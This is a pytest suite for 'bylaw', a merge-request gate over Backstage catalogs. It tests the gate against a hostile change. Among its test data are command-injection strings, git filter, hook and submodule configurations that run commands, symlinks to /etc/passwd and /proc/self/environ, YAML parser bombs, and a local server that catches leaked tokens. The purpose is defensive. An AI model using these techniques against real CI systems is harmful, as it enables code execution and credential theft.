"""A merge request of somebody who wants to get past the gate, to learn what the job knows, or to run something there.

The change that the gate has to deny is the same everywhere: a group is renamed under its component. Whatever comes
with it, the gate says the same of that.
"""

from __future__ import annotations

import json
import os
import py_compile
import re
import subprocess
import sys
import threading
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import TYPE_CHECKING, Any
from xml.etree import ElementTree

import pytest

from tests.command import BYLAW, entity, run, scrubbed, without_privileges
from tests.golden.test_hostile import laughs
from tests.merge.repository import DAY, Repository, told
from tests.merge.test_story import BASE, BOTH_ENDS, FAULTY, GROUPS, LAW, ORDERS, RENAMED, WAIVERS
from tests.reports.test_markdown import is_harmless

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path

FORMATS = ("text", "json", "sarif", "junit", "codequality", "github", "tap", "markdown")
RENAMING = {"org/catalog-info.yaml": RENAMED}
TOKEN = "glpat-ThisIsTheJobsToken"
LOOP = """\
# METADATA
# title: Takes for ever
# description: It never comes to an end.
# custom:
#   severity: error
#   applies_to: {kind: [Component]}
#   reads: entity
#   remediation: Wait.
package bylaw.evil.loop

import rego.v1
import future.keywords.not

findings contains {"pointer": "", "message": "x"} if {
	some a in numbers.range(1, 100000)
	some b in numbers.range(1, 100000)
	some c in numbers.range(1, 100000)
	a + b + c == -1
}
"""
RULE = """\
from bylaw.model import Severity
from bylaw.rules import Rule


def evaluate(entity, context):
    return []


RULE = Rule(
    id="own/fine", title="Fine", description="All is.", severity=Severity.ERROR, remediation="None.", evaluate=evaluate
)
"""


@pytest.fixture
def repository(tmp_path: Path) -> Repository:
    return Repository.at(tmp_path / "shop", BASE)


@pytest.fixture
def marker(tmp_path: Path) -> Iterator[Path]:
    """A file that is there as soon as something of the change has run."""
    path = tmp_path / "pwned"
    yield path
    assert not path.exists()


class Caught(ThreadingHTTPServer):
    """The attacker's server, which writes down who calls."""

    def __init__(self) -> None:
        self.calls: list[str] = []
        server = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                server.calls.append(f"{self.requestline} {self.headers.get('Authorization')}")
                self.send_error(404)

            def log_message(self, *said: object) -> None:
                """Nobody reads it."""

        super().__init__(("127.0.0.1", 0), Handler)

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.server_port}"


@pytest.fixture
def attacker() -> Iterator[Caught]:
    server = Caught()
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield server
    server.shutdown()
    server.server_close()
    assert server.calls == []


def texts(repository: Repository, *arguments: str, **more: Any) -> dict[str, str]:
    """What a run says, in each format, on standard output and to standard error."""
    folder = repository.folder.parent
    outputs = [each for form in FORMATS for each in ("--output", f"{form}={folder / form}")]
    ran = repository.gate(*outputs, *arguments, **more)
    return {"out": ran.out, "err": ran.err, **{form: (folder / form).read_text() for form in FORMATS}}


def verdict(report: Any) -> tuple[str, list[tuple[str, str, str]]]:
    return report["decision"], sorted(told(report))


DENIED = ("denied", sorted(BOTH_ENDS))


# -- names and texts


NASTY = [
    "a\n::error::b",
    "a\n::stop-commands::b",
    "a\n/approve\n/merge",
    "a\r\nnot ok 1 - b\nBail out!",
    "..a",
    "a..b",
    "...",
    "-x",
    "--upload-pack=touch pwned",
    "a'b\"c`d",
    "$(touch pwned)",
    "a;touch pwned",
    "a b\tc",
    "a\\b",
    "a:1:2",
    "\x1b]0;pwned\x07\x1b[2J",
    "\u202egnp",
    "@all #1 !2 ~label",
    "![x](http:evil)",
    "<img src=x onerror=alert(1)>",
    "]]><x>",
    "{{x}}",
    "*",
    "[a-z]?",
    "%0A%25",
]
UNKNOWN = FAULTY.replace("nobody-knows", "nobody-either")


def test_no_name_of_a_file_changes_a_verdict_or_acts_in_a_report(repository: Repository, marker: Path) -> None:
    def changed(names: list[str]) -> dict[str, str]:
        faulty = {f"{name}/catalog-info.yaml": UNKNOWN.replace("legacy", f"e{n}") for n, name in enumerate(names)}
        repository.git("clean", "-qfd")
        repository.change({**RENAMING, **faulty})
        return texts(repository)

    plain = verdict(json.loads(changed([f"folder-{number}" for number in range(len(NASTY))])["json"]))
    assert len(plain[1]) == len(BOTH_ENDS) + len(NASTY)
    nasty = changed(NASTY)
    assert verdict(json.loads(nasty["json"])) == plain
    assert_nothing_acts(nasty)
    assert not list(repository.folder.rglob("pwned"))


def test_a_file_whose_name_is_no_text_is_a_fault_and_not_overlooked(repository: Repository) -> None:
    repository.change({"\udcff\udcfe/catalog-info.yaml": UNKNOWN})
    said = texts(repository)
    found = json.loads(said["json"])["findings"]

    assert [(each["status"], each["rule"], each["location"]["path"], each["message"]) for each in found] == [
        (
            *("new", "catalog/yaml-invalid", "\\xff\\xfe/catalog-info.yaml"),
            "the file has a name that is not UTF-8: rename it",
        )
    ]
    assert json.loads(said["json"])["decision"] == "denied"
    assert_nothing_acts(said)


MARKUP = [
    "</testcase><testcase name='x'/>",
    "]]><![CDATA[",
    "`` ``` `\n/approve\n/assign @root",
    "@all ![x](http://evil.example) <script>alert(1)</script>",
    "\x1b[2J\x1b]0;pwned\x07\r::error::x",
    "\n::error::x\n##[error]y",
    "not ok 1\nBail out!",
    "\u202e\u2066\u200b\x9b1m",
    "${{ github.token }} {% raw %}",
]


def test_no_text_of_an_entity_acts_in_a_report(repository: Repository) -> None:
    def described(number: int, said: str) -> str:
        return json.dumps(
            {
                "apiVersion": "backstage.io/v1alpha1",
                "kind": ["Component", said][number % 2],
                "metadata": {
                    "name": said if number % 3 else f"e{number}",
                    "title": said,
                    "description": said,
                    "annotations": {said: said},
                    "links": [{"url": said, "title": said}],
                },
                "spec": {"type": said, "lifecycle": said, "owner": said, "dependsOn": [said, f"component:{said}"]},
            }
        )

    repository.change(
        {**RENAMING, **{f"e{number}/catalog-info.yaml": described(number, said) for number, said in enumerate(MARKUP)}}
    )
    said = texts(repository)

    assert json.loads(said["json"])["decision"] == "denied"
    assert set(BOTH_ENDS) <= set(told(json.loads(said["json"])))
    assert_nothing_acts(said)


ACTS = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
COMMAND = re.compile(r"::(error|warning|notice) (file=[^,:]+,line=\d+.*?,|)title=[^,:]+::.*")
TESTS = re.compile(r"(?:not )?ok (\d+) - .*|1\.\.(\d+).*|TAP version 14|  .*|# .*")


def assert_nothing_acts(said: dict[str, str]) -> None:
    """Nothing acts on a terminal, and no line, element or markup of a report is one that a stranger has written."""
    for form, text in said.items():
        assert not ACTS.search(text), form
    assert is_harmless(said["markdown"])
    assert not re.search("^/", said["markdown"], re.MULTILINE)
    *commands, last = said["github"].splitlines()
    assert [each for each in commands if not COMMAND.fullmatch(each)] == []
    assert last.startswith("bylaw: denied: ")
    assert {each.tag for each in ElementTree.fromstring(said["junit"]).iter()} <= {
        *("testsuites", "testsuite", "properties", "property", "testcase", "failure", "error", "skipped"),
        *("system-out", "system-err"),
    }
    for form in ("json", "sarif", "codequality"):
        json.loads(said[form])
    assert [each for each in said["tap"].splitlines() if not TESTS.fullmatch(each)] == []
    numbers = [int(found[1]) for each in said["tap"].splitlines() if (found := TESTS.fullmatch(each)) and found[1]]
    assert numbers == list(range(1, len(numbers) + 1))


# -- size


def test_ten_thousand_changed_files_are_judged(repository: Repository) -> None:
    right = {"type": "library", "lifecycle": "experimental", "owner": "platform"}
    components = {f"s{number}/catalog-info.yaml": entity(f"s{number}", **right) for number in range(2_000)}
    components["s777/catalog-info.yaml"] = entity("s777", **{**right, "owner": "nobody"})
    repository.change({**RENAMING, **components, **{f"s{number % 2_000}/{number}.txt": "" for number in range(8_000)}})
    output = repository.folder.parent / "report.json"
    with subprocess.Popen(
        [*BYLAW, "gate", "--base", "main", *DAY, "--output", f"json={output}"],
        cwd=repository.folder,
        env=scrubbed(),
        stdout=subprocess.DEVNULL,
        preexec_fn=without_privileges,
    ) as process:
        with bounded(process, seconds=300):
            _, status, used = os.wait4(process.pid, 0)
        process.returncode = os.waitstatus_to_exitcode(status)

    report = json.loads(output.read_text())
    assert process.returncode == 1
    assert len(report["proposal"]["files"]) == 10_001
    assert verdict(report) == ("denied", sorted([*BOTH_ENDS, (*BOTH_ENDS[0][:2], "component:default/s777")]))
    assert used.ru_maxrss < 500_000  # KiB


@contextmanager
def bounded(process: subprocess.Popen[bytes], *, seconds: float) -> Iterator[None]:
    """End a process that hangs."""
    timer = threading.Timer(seconds, process.kill)
    timer.start()
    try:
        yield
    finally:
        timer.cancel()


def test_what_is_made_to_exhaust_a_reader_is_one_finding_each(repository: Repository) -> None:
    bombs = {
        "laughs": laughs(9),
        "deep": "[" * 100_000,
        "deep-blocks": "".join(f"{' ' * depth}a:\n" for depth in range(2_000)),
        "line": "x" * 100_000_000,
        "keys": "".join(f"k{number}: 0\n" for number in range(1_000_000)),
    }
    repository.change({**RENAMING, **{f"{name}/catalog-info.yaml": text for name, text in bombs.items()}})
    report = repository.judged(timeout=300)

    assert report["decision"] == "denied"
    assert [each for each in told(report) if each[2]] == BOTH_ENDS
    places = {each["location"]["path"]: each["rule"] for each in report["findings"] if not each["entity"]}
    assert places == {f"{name}/catalog-info.yaml": "catalog/yaml-invalid" for name in bombs}


# -- the law


@pytest.mark.parametrize(
    ("law", "fault"),
    [
        (laughs(9), "which Backstage takes for an attack"),
        ("[" * 100_000, "more than 100 collections in one another"),
        (f"version: 1\nx: {'a' * 20_000_000}\n", "(catalog.limits.file_bytes)"),
        ("version: 1\npolicies: {paths: [../..]}\n", "../.. leads out of the checkout"),
        ("version: 1\npolicies: {paths: [/etc]}\n", "/etc leads out of the checkout"),
        ("version: 1\nwaivers: {paths: [/proc/self/environ]}\n", "/proc/self/environ leads out of the checkout"),
        ("version: 1\npolicies: {paths: [outside]}\n", "outside: is a symbolic link, which is not followed"),
        ("version: 1\npolicies: {paths: [policies/deep.rego]}\n", "nesting too deep"),
    ],
)
def test_a_law_that_cannot_be_used_is_told_and_changes_no_verdict(repository: Repository, law: str, fault: str) -> None:
    deep = LOOP.replace("-1", f"{'(' * 10_000}1{')' * 10_000}")
    repository.git("checkout", "-qb", "change")
    (repository.folder / "outside").symlink_to("/etc")
    files = {"bylaw.yaml": law, "policies/deep.rego": deep}
    repository.commit({**RENAMING, **files}, "change")
    report = repository.judged(timeout=300)

    assert verdict(report) == DENIED
    assert fault in report["proposal"]["law"]["fault"]


def test_a_settings_file_that_is_a_link_out_of_the_checkout_is_none(repository: Repository, tmp_path: Path) -> None:
    off = tmp_path / "off.yaml"
    off.write_text("version: 1\nenforcement: {default: off}\n")
    repository.git("checkout", "-qb", "change")
    (repository.folder / "bylaw.yaml").unlink()
    (repository.folder / "bylaw.yaml").symlink_to(off)
    repository.commit(RENAMING, "change")

    for said in ((), ("--config", "bylaw.yaml")):
        report = repository.judged(*said)
        assert verdict(report) == DENIED
        assert report["proposal"]["law"]["files"] == ["bylaw.yaml"]
        assert "is a symbolic link, which is not followed" in report["proposal"]["law"]["fault"]


def test_what_a_change_says_of_the_gate_itself_is_shown_and_does_not_hold(
    repository: Repository, attacker: Caught
) -> None:
    law = f"""\
version: 1
catalog:
  paths: [nothing/at/all.yaml]
  base: {{backstage: {{url: "{attacker.url}", token_env: CI_JOB_TOKEN}}}}
  complete: false
  limits: {{seconds: 100000, files: 1}}
policies: {{bundled: false, deadline: 100000, memory: 1000000}}
enforcement: {{default: off}}
waivers: {{paths: [waivers.yaml], approvers: [user:joe], max_days: 10000}}
gates: {{merge: {{only_new: false, on_unknown: warn, on_error: warn, on_base_missing: judge_alone}}}}
"""
    waivers = WAIVERS.replace("approved_by: jane", "approved_by: joe").replace("requested_by: joe", "requested_by: eve")
    repository.change({**RENAMING, "bylaw.yaml": law, "waivers.yaml": waivers})
    said = texts(repository, environment={"CI_JOB_TOKEN": TOKEN})
    report = json.loads(said["json"])

    assert verdict(report) == DENIED
    assert [each["waiver"] for each in report["findings"]] == [None] * len(report["findings"])
    assert not [form for form, text in said.items() if TOKEN in text]
    lines = report["proposal"]["law"]["lines"]
    assert lines[:2] == [
        "catalog.paths: ['**/catalog-info.yaml'] -> ['nothing/at/all.yaml']",
        f"catalog.base: {{}} -> {{'backstage': {{'url': '{attacker.url}', 'token_env': 'CI_JOB_TOKEN'}}}}",
    ]
    assert {"policies.bundled: True -> False", "policies.deadline: 5.0 -> 100000.0"} < set(lines)
    assert "waivers.approvers: ['group:platform'] -> ['user:joe']" in lines
    assert "gates.merge.on_error: 'deny' -> 'warn'" in lines


def test_nothing_that_a_file_of_the_change_names_is_fetched(repository: Repository, attacker: Caught) -> None:
    location = f"""\
apiVersion: backstage.io/v1alpha1
kind: Location
metadata: {{name: elsewhere}}
spec: {{type: url, targets: ["{attacker.url}/a.yaml"]}}
---
apiVersion: backstage.io/v1alpha1
kind: Component
metadata:
  name: docs
  annotations: {{backstage.io/techdocs-ref: "url:{attacker.url}/docs"}}
spec: {{type: library, lifecycle: experimental, owner: {{$text: "{attacker.url}/owner"}}}}
"""
    repository.change({**RENAMING, "elsewhere/catalog-info.yaml": location})

    assert set(BOTH_ENDS) <= set(told(repository.judged()))


def test_a_rule_in_python_that_a_change_brings_is_not_run(repository: Repository, marker: Path) -> None:
    evil = f"open({str(marker)!r}, 'w').close()\n{RULE}"
    law = LAW + "policies: {paths: [policies]}\n"
    repository.change({**RENAMING, "bylaw.yaml": law, "policies/evil.py": evil, "policies/conftest.py": evil})
    report = repository.judged()

    assert verdict(report) == DENIED
    assert report["proposal"]["law"]["lines"][:2] == [
        f"policies/{name} is Python: what a change brings is not run, so people have to read it"
        for name in ("conftest.py", "evil.py")
    ]
    refused = repository.gate("--policies", "policies")
    assert refused.code == 2
    assert "a change does not bring its own law" in refused.err


def test_bytecode_that_a_change_puts_beside_a_rule_is_not_run(tmp_path: Path, marker: Path) -> None:
    law = LAW + "policies: {paths: [policies]}\n"
    repository = Repository.at(tmp_path / "shop", {**BASE, "bylaw.yaml": law, "policies/fine.py": RULE})
    evil = tmp_path / "evil.py"
    evil.write_text(f"open({str(marker)!r}, 'w').close()\n{RULE}")
    place = repository.folder / "policies" / "__pycache__" / f"fine.{sys.implementation.cache_tag}.pyc"
    repository.git("checkout", "-qb", "change")
    # Of such bytecode Python does not look whether it is that of the source.
    py_compile.compile(str(evil), str(place), invalidation_mode=py_compile.PycInvalidationMode.UNCHECKED_HASH)
    repository.commit({**RENAMING, "bylaw.yaml": f"{law}enforcement: {{default: warn}}\n"}, "change")
    report = repository.judged()

    assert verdict(report) == DENIED
    assert {each["after"] for each in report["proposal"]["law"]["flips"]} == {"allowed"}


def test_a_rule_that_never_ends_is_given_the_time_of_the_base(tmp_path: Path) -> None:
    law = LAW + "policies: {paths: [policies], deadline: 0.3}\n"
    repository = Repository.at(tmp_path / "shop", {**BASE, "bylaw.yaml": law, "policies/README.md": "Rules."})
    more = law.replace("deadline: 0.3", "deadline: 100000")
    repository.change({**RENAMING, "bylaw.yaml": more, "policies/loop.rego": LOOP})
    report = repository.judged(timeout=60)

    assert verdict(report) == DENIED
    assert "evil/loop: added; deny; 2 findings more, 0 fewer" in report["proposal"]["law"]["lines"]


# -- the base


@pytest.fixture
def snapshotted(tmp_path: Path) -> Repository:
    """A repository whose base is a snapshot that CI puts into the checkout, and is judged alone without one."""
    law = LAW + "catalog: {base: {snapshot: ci/base.db}}\ngates: {merge: {on_base_missing: judge_alone}}\n"
    made = Repository.at(tmp_path / "shop", {**BASE, "bylaw.yaml": law, "old.db": ""})
    assert run("snapshot", ".", "--output", "old.db", cwd=made.folder).code == 0
    made.commit({}, "an old snapshot")
    return made


def test_a_snapshot_that_ci_puts_into_the_checkout_is_a_base(snapshotted: Repository) -> None:
    snapshotted.change(RENAMING)
    (snapshotted.folder / "ci").mkdir()
    assert run("snapshot", ".", "--output", "ci/base.db", cwd=snapshotted.folder).code == 0
    report = snapshotted.judged()

    assert verdict(report) == DENIED
    assert report["proposal"]["surroundings"].startswith("snapshot ")


@pytest.mark.parametrize("brought", ["file", "link", "linked-folder", "file-in-place-of-the-folder", "removed"])
def test_a_snapshot_that_the_change_brings_is_none_however_it_does(snapshotted: Repository, brought: str) -> None:
    folder = snapshotted.folder
    old = (folder / "old.db").read_bytes()
    (folder / "ci").mkdir()
    if brought == "removed":
        (folder / "ci" / "base.db").write_bytes(old)
        snapshotted.commit({}, "the base is in the repository")
    snapshotted.git("checkout", "-qb", "change")
    if brought == "file":
        (folder / "ci" / "base.db").write_bytes(old)
    elif brought == "link":
        (folder / "ci" / "base.db").symlink_to("../old.db")
    elif brought == "linked-folder":
        (folder / "ci").rmdir()
        (folder / "elsewhere").mkdir()
        (folder / "elsewhere" / "base.db").write_bytes(old)
        (folder / "ci").symlink_to("elsewhere")
    elif brought == "removed":
        (folder / "ci" / "base.db").unlink()
    else:
        (folder / "ci").rmdir()
        (folder / "ci").write_bytes(old)
    snapshotted.commit(RENAMING, "change")
    ran = snapshotted.gate()

    assert ran.code == 3
    assert "the change itself brings this snapshot, so it is no base for it" in ran.err


def test_the_law_of_a_folder_that_is_laid_over_a_base_does_not_hold(
    repository: Repository, tmp_path: Path, marker: Path
) -> None:
    assert run("snapshot", ".", "--output", str(tmp_path / "base.db"), cwd=repository.folder).code == 0
    law = "version: 1\nenforcement: {default: off}\npolicies: {paths: [evil.py]}\n"
    changed = Repository(tmp_path / "changed")
    changed.write(
        {
            "legacy/catalog-info.yaml": FAULTY.replace("legacy", "younger"),
            "bylaw.yaml": law,
            "evil.py": f"open({str(marker)!r}, 'w').close()\n{RULE}",
        }
    )
    ran = run(*("gate", "--changed", ".", "--snapshot", "../base.db", "--format", "json", *DAY), cwd=changed.folder)

    assert told(ran.report) == [("new", "ownership/owner-unknown", "component:default/younger")]
    assert ran.code == 1


# -- git


def test_nothing_that_a_repository_configures_is_run(repository: Repository, marker: Path) -> None:
    touch = f"touch {marker}"
    for name in ("clean", "smudge", "process"):
        repository.git("config", f"filter.evil.{name}", f"{touch}; cat")
    for name in ("textconv", "command"):
        repository.git("config", f"diff.evil.{name}", touch)
    repository.git("config", "filter.evil.required", "true")
    attributes = "* filter=evil diff=evil merge=evil\n"
    modules = f'[submodule "x"]\n\tpath = x\n\turl = ext::sh -c "{touch}"\n\tupdate = !{touch}\n'
    with without_filters(repository):
        repository.change({**RENAMING, ".gitattributes": attributes, ".gitmodules": modules, ".lfsconfig": "[lfs]\n"})
    for name, value in (
        ("core.fsmonitor", touch),
        ("core.pager", touch),
        ("core.sshCommand", touch),
        ("diff.external", touch),
        ("core.hooksPath", str(repository.folder / ".hooks")),
        ("alias.diff", f"!{touch}"),
        ("alias.ls-files", f"!{touch}"),
    ):
        repository.git("config", name, value)
    for hook in ("post-index-change", "fsmonitor-watchman", "post-checkout", "reference-transaction"):
        file = repository.folder / ".hooks" / hook
        file.parent.mkdir(exist_ok=True)
        file.write_text(f"#!/bin/sh\n{touch}\n")
        file.chmod(0o755)
    (repository.folder / "orders" / "catalog-info.yaml").write_text(ORDERS)  # newer than the index: git looks into it
    report = repository.judged()

    assert verdict(report) == DENIED


@contextmanager
def without_filters(repository: Repository) -> Iterator[None]:
    """Let the test's own git commit without the filter."""
    names = ("clean", "smudge", "process", "required")
    kept = {name: repository.git("config", f"filter.evil.{name}").strip() for name in names}
    for name in names:
        repository.git("config", "--unset", f"filter.evil.{name}")
    yield
    for name, value in kept.items():
        repository.git("config", f"filter.evil.{name}", value)


BRANCHES = [
    "--upload-pack=touch pwned",
    "-x",
    "main;touch pwned",
    "main\ntouch pwned",
    "$(touch pwned)",
    "`x`",
    "../..",
    "",
]


@pytest.mark.parametrize("name", BRANCHES[:-1])
def test_no_name_of_a_branch_is_an_option_or_a_command(repository: Repository, name: str) -> None:
    repository.change(RENAMING)
    ran = run("gate", f"--base={name}", cwd=repository.folder)

    assert ran.code == 2
    assert ran.out == ""
    assert_one_message(ran.err)
    assert not list(repository.folder.rglob("pwned"))


@pytest.mark.parametrize("variable", ["CI_MERGE_REQUEST_TARGET_BRANCH_NAME", "GITHUB_BASE_REF"])
@pytest.mark.parametrize("name", BRANCHES[:4])
def test_no_name_that_ci_repeats_is_an_option_or_a_command(repository: Repository, variable: str, name: str) -> None:
    repository.change(RENAMING)
    sha = {"CI_MERGE_REQUEST_DIFF_BASE_SHA": name, "CI_MERGE_REQUEST_TARGET_BRANCH_SHA": name}
    ran = run("gate", cwd=repository.folder, environment={"CI": "true", variable: name, **sha})

    assert ran.code == 3
    assert ran.out == ""
    assert_one_message(ran.err)
    assert not list(repository.folder.rglob("pwned"))


def assert_one_message(said: str) -> None:
    assert all(line.startswith("bylaw: ") and line.isprintable() for line in said.splitlines())


# -- secrets


def test_no_byte_from_outside_of_the_checkout_gets_into_a_report(repository: Repository, tmp_path: Path) -> None:
    token = tmp_path / "token"
    token.write_text(f"{TOKEN}\n")
    repository.git("checkout", "-qb", "change")
    folder = repository.folder
    for name, target in (
        ("passwd.txt", "/etc/passwd"),
        ("environ.txt", "/proc/self/environ"),
        ("token.txt", token),
        ("relative.txt", "../token"),
        ("twice.txt", "token.txt"),
        ("outside", tmp_path),
        ("linked/catalog-info.yaml", token),
        ("chain/catalog-info.yaml", "../token.txt"),
    ):
        (folder / name).parent.mkdir(exist_ok=True)
        (folder / name).symlink_to(target)
    targets = [
        *("/etc/passwd", "/proc/self/environ", "/proc/self/fd/0", str(token), "../../token", "../passwd.txt"),
        *("../environ.txt", "../token.txt", "../relative.txt", "../twice.txt", "../outside/token", f"file://{token}"),
        *("../.git/config", "./../../../../../../../../../../etc/passwd", "/etc/../etc/passwd"),
    ]
    api = """\
apiVersion: backstage.io/v1alpha1
kind: API
metadata:
  name: api-{number}
  description: It is there to read what it must not
  annotations: {{backstage.io/techdocs-ref: "dir:{target}"}}
spec: {{type: openapi, lifecycle: experimental, owner: platform, definition: {{${kind}: "{target}"}}}}
---
apiVersion: backstage.io/v1alpha1
kind: Location
metadata: {{name: location-{number}}}
spec: {{targets: ["{target}"]}}
"""
    kinds = ("text", "yaml", "json")
    files = {
        f"{number}-{kind}/catalog-info.yaml": api.format(number=f"{number}-{kind}", kind=kind, target=target)
        for number, target in enumerate(targets)
        for kind in kinds
    }
    repository.git("config", "evil.url", f"https://oauth2:{TOKEN}@gitlab.example.com")
    repository.commit({**RENAMING, **files}, "change")
    said = texts(repository, environment={"CI_JOB_TOKEN": TOKEN})

    report = json.loads(said["json"])
    assert set(BOTH_ENDS) <= set(told(report))
    unread = {each["entity"] for each in report["findings"] if each["rule"] == "catalog/placeholder-unresolved"}
    inside = {f"api:default/api-{targets.index('../.git/config')}-text"}
    assert unread >= {f"api:default/api-{n}-{kind}" for n in range(len(targets)) for kind in kinds} - inside
    for secret in (TOKEN, "root:", "GIT_CONFIG_NOSYSTEM"):
        assert not [form for form, text in said.items() if secret in text]


# -- entities of others


COMPANY = {
    "catalog-info.yaml": """\
apiVersion: backstage.io/v1alpha1
kind: API
metadata: {name: payments, description: Takes money from people}
spec: {type: grpc, lifecycle: production, owner: platform, definition: "syntax"}
---
apiVersion: backstage.io/v1alpha1
kind: Group
metadata: {name: platform, description: They look after the rest}
spec: {type: team, children: [], members: [jane]}
---
apiVersion: backstage.io/v1alpha1
kind: User
metadata: {name: jane}
spec: {memberOf: [platform]}
---
apiVersion: backstage.io/v1alpha1
kind: Component
metadata: {name: till, description: Rings when it is opened}
spec: {type: library, lifecycle: experimental, owner: platform, consumesApis: [payments]}
"""
}


@pytest.fixture
def neighbour(tmp_path: Path) -> Repository:
    """A repository with nothing in it, over the snapshot of another."""
    company = Repository.at(tmp_path / "company", COMPANY)
    said = ("--repository", "https://gitlab.example.com/acme/company")
    assert run("snapshot", ".", "--output", "../base.db", *said, cwd=company.folder).code == 0
    made = Repository.at(tmp_path / "eve", {"README.md": "Nothing yet."})
    made.git("remote", "add", "origin", "https://gitlab.example.com/eve/tools.git")
    return made


OVER = ("--snapshot", "../base.db")


@pytest.mark.parametrize("name", ["payments", "PAYMENTS", "Payments"])
def test_an_entity_of_another_repository_cannot_be_taken_over(neighbour: Repository, name: str) -> None:
    mine = (
        COMPANY["catalog-info.yaml"].split("---")[0].replace("production, owner: platform", "deprecated, owner: jane")
    )
    mine = mine.replace("name: payments", f"name: {name}")
    neighbour.change({"0/catalog-info.yaml": mine})
    report = neighbour.judged(*OVER)

    assert told(report) == [("new", "catalog/entity-duplicate", "api:default/payments")]
    assert report["decision"] == "denied"
    assert [each["location"]["path"] for each in report["findings"] if each["enforcement"] == "deny"] == [
        "0/catalog-info.yaml"
    ]
    assert report["proposal"]["edited"] == []  # the entity is the one that was there
    assert [each for each in report["findings"] if each["rule"].startswith("lifecycle/")] == []


def test_a_location_that_is_forged_makes_no_entity_that_of_another(neighbour: Repository) -> None:
    place = "url:https://gitlab.example.com/acme/company/-/blob/main/catalog-info.yaml"
    annotations = {"backstage.io/managed-by-location": place, "backstage.io/managed-by-origin-location": place}
    forged = json.loads(entity("forged", type="library", lifecycle="experimental", owner="nobody"))
    forged["metadata"]["annotations"] = annotations
    neighbour.change({"catalog-info.yaml": json.dumps(forged)})
    report = neighbour.judged(*OVER)

    assert ("new", "ownership/owner-unknown", "component:default/forged") in told(report)
    assert ("new", "catalog/reserved-annotation", "component:default/forged") in told(report)
    assert {each["location"]["path"] for each in report["findings"] if each["location"]} == {"catalog-info.yaml"}
    assert report["proposal"]["removed"] == []
    assert report["proposal"]["added"] == ["component:default/forged"]


def test_a_location_that_is_forged_makes_no_entity_one_of_ours(tmp_path: Path, neighbour: Repository) -> None:
    place = "url:https://gitlab.example.com/eve/tools/-/blob/main/catalog-info.yaml"
    company = Repository(tmp_path / "company")
    annotated = "{name: till, annotations: {backstage.io/managed-by-location: '" + place + "'}"
    company.commit({"catalog-info.yaml": COMPANY["catalog-info.yaml"].replace("{name: till", annotated)}, "forged")
    said = ("--repository", "https://gitlab.example.com/acme/company")
    assert run("snapshot", ".", "--output", "../base.db", *said, cwd=company.folder).code == 0
    neighbour.change({"catalog-info.yaml": entity("mine", type="library", lifecycle="experimental", owner="platform")})
    report = neighbour.judged(*OVER)

    assert report["proposal"]["removed"] == []
    assert report["proposal"]["added"] == ["component:default/mine"]
    assert report["decision"] == "allowed"


def test_a_name_that_is_an_expression_takes_the_entity_away(repository: Repository) -> None:
    hidden = GROUPS.replace("name: payments", 'name: "{{ payments }}"')
    repository.change({"org/catalog-info.yaml": hidden})
    report = repository.judged()

    assert report["decision"] == "denied"
    assert report["proposal"]["removed"] == ["group:default/payments"]
    assert ("new", "catalog/removed-in-use", "group:default/payments") in told(report)
    assert ("new", "ownership/owner-unknown", "component:default/orders") in told(report)
    assert any("org/catalog-info.yaml" in note for note in report["notes"])
